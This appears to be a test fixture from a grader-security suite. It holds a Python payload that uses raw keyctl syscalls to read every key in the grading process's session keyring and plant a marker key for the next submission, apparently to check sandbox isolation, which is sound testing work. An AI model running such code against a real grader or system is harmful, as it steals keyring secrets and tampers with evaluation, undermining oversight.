"""Reads the session keyring of whoever grades, and leaves a word in it for the next submission"""

from tests.attacks.attack import Attack

_BODY = """
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
listed = ctypes.create_string_buffer(4000)
many = libc.syscall(250, 11, ctypes.c_int(-3), listed, 4000)
read = {}
for key in struct.unpack(f"{max(0, many) // 4}i", listed.raw[: max(0, many) // 4 * 4]):
    said = ctypes.create_string_buffer(300)
    long = libc.syscall(250, 11, key, said, 300)
    read[key] = said.raw[: max(0, long)]
added = libc.syscall(248, b"user", b"hostile-left-for-the-next", b"a word", 6, ctypes.c_int(-3))
"""

ATTACK = Attack(
    "harm",
    q2=_BODY,
    q3="reason = 'B' if added > 0 else 'not done'",
    proof="q3",
)
